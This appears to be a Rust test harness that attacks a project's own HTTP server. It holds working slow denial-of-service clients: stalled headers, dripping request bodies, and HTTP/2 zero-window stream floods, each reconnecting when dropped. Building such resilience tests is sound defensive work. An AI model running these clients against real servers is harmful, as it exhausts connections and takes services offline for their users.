//! Clients that mean harm: each holds on to as much of a server as it can with as little as it can.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{interval, sleep};

/// Between two bytes: less than the second after which a silent client gets its answer.
const DRIP: Duration = Duration::from_millis(600);
/// How soon a stranger whose connection is taken comes back. With thousands of them, a full house changes hands in seconds: a
/// newcomer of a busy machine needs about one to send a head.
const AGAIN: Duration = Duration::from_secs(15);
/// What HTTP/2 begins with, and SETTINGS with an initial window of 0 (RFC 9113, sections 3.4 and 6.5.2).
const NO_WINDOW: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0";
/// Its frame HEADERS, with the flags `END_STREAM` and `END_HEADERS`.
const HEADERS: [u8; 2] = [1, 5];

/// How many of each kind.
#[derive(Debug, Clone, Copy)]
pub struct Strength {
    /// Sign-ins whose body stops after a byte.
    pub forms: usize,
    /// Uploads with made-up tickets, whose bodies drip.
    pub uploads: usize,
    /// Calls without a bearer, whose bodies drip.
    pub calls: usize,
    /// Connections of HTTP/2 that open no window for any answer.
    pub windows: usize,
    /// Requests on each of them.
    pub streams: u32,
    /// Connections that stop in a head.
    pub heads: usize,
}

impl Strength {
    /// What each of it once closed a server with, for as long as it stayed; all at once.
    pub const WHOLE: Self = Self { forms: 64, uploads: 8, calls: 256, windows: 2, streams: 128, heads: 3000 };

    /// How many connections that takes.
    pub fn connections(self) -> usize {
        let Self { forms, uploads, calls, windows, streams: _, heads } = self;
        forms + uploads + calls + windows + heads
    }
}

/// Gives the base URL of a server that is up just now.
pub type Target = Arc<dyn Fn() -> String + Send + Sync>;

/// An attack that goes on until it is dropped: what the server closes is opened again.
#[derive(Debug)]
#[must_use]
pub struct Attack {
    _clients: JoinSet<()>,
}

impl Attack {
    /// Returns when all of it is under way.
    pub async fn begin(target: &Target, strength: Strength) -> Self {
        let begun = Arc::new(Semaphore::new(0));
        let mut clients = JoinSet::new();
        let mut count = 0;
        for (kind, many) in [
            (Kind::Form, strength.forms),
            (Kind::Upload, strength.uploads),
            (Kind::Call, strength.calls),
            (Kind::Window(strength.streams), strength.windows),
            (Kind::Head, strength.heads),
        ] {
            for number in 0..many {
                clients.spawn(kind.hold(number, target.clone(), begun.clone()));
                count += 1;
            }
        }
        let all = begun.acquire_many(count).await.expect("it stays open");
        all.forget();
        Self { _clients: clients }
    }
}

#[derive(Debug, Clone, Copy)]
enum Kind {
    Form,
    Upload,
    Call,
    Window(u32),
    Head,
}

impl Kind {
    async fn hold(self, number: usize, target: Target, begun: Arc<Semaphore>) {
        let mut first = true;
        loop {
            let base = target();
            let address = base.trim_start_matches("http://");
            let opening = self.opening(number, address);
            // Refused, or no descriptor left: that is the attacker's loss.
            if let Ok(mut stream) = TcpStream::connect(address).await {
                let sent = stream.write_all(&opening).await;
                if std::mem::take(&mut first) {
                    begun.add_permits(1);
                }
                if sent.is_ok() {
                    self.keep(&mut stream).await;
                }
            }
            if std::mem::take(&mut first) {
                begun.add_permits(1);
            }
            sleep(AGAIN).await;
        }
    }

    /// Until the server closes.
    async fn keep(self, stream: &mut TcpStream) {
        let mut drip = interval(DRIP);
        let mut read = [0; 4096];
        loop {
            tokio::select! {
                got = stream.read(&mut read) => if matches!(got, Ok(0) | Err(_)) { return },
                _ = drip.tick(), if self.drips() => if stream.write_all(b"x").await.is_err() { return },
            }
        }
    }

    fn drips(self) -> bool {
        matches!(self, Self::Upload | Self::Call)
    }

    fn opening(self, number: usize, address: &str) -> Vec<u8> {
        match self {
            Self::Form => {
                let path = ["/register", "/token", "/consent", "/revoke"][number % 4];
                format!("POST {path} HTTP/1.1\r\nhost: {address}\r\ncontent-length: 100\r\n\r\n{{")
                    .into_bytes()
            }
            Self::Upload => format!(
                "PUT /uploads HTTP/1.1\r\nhost: {address}\r\nx-validibot-upload-ticket: k.{number}\r\n\
                 content-length: 10000000\r\n\r\n"
            )
            .into_bytes(),
            Self::Call => format!(
                "POST /mcp HTTP/1.1\r\nhost: {address}\r\ncontent-type: application/json\r\n\
                 content-length: 10000000\r\n\r\n"
            )
            .into_bytes(),
            Self::Head => {
                format!("GET /{} HTTP/1.1\r\nhost: {address}\r\nx: {}", "x".repeat(100), "y".repeat(8000))
                    .into_bytes()
            }
            Self::Window(streams) => {
                let mut bytes = NO_WINDOW.to_vec();
                for stream in 0..streams {
                    // HPACK (RFC 7541): the method, http, then :path and :authority as literals.
                    let (method, path) =
                        [(0x82, "/authorize?client_id=x"), (0x83, "/mcp"), (0x82, "/")][stream as usize % 3];
                    let mut block = vec![method, 0x86];
                    for (name, value) in [(0x04, path), (0x01, address)] {
                        block.extend([name, u8::try_from(value.len()).expect("short")]);
                        block.extend(value.as_bytes());
                    }
                    bytes.extend([0, 0, u8::try_from(block.len()).expect("short")]);
                    bytes.extend(HEADERS);
                    bytes.extend((2 * stream + 1).to_be_bytes());
                    bytes.extend(block);
                }
                bytes
            }
        }
    }
}
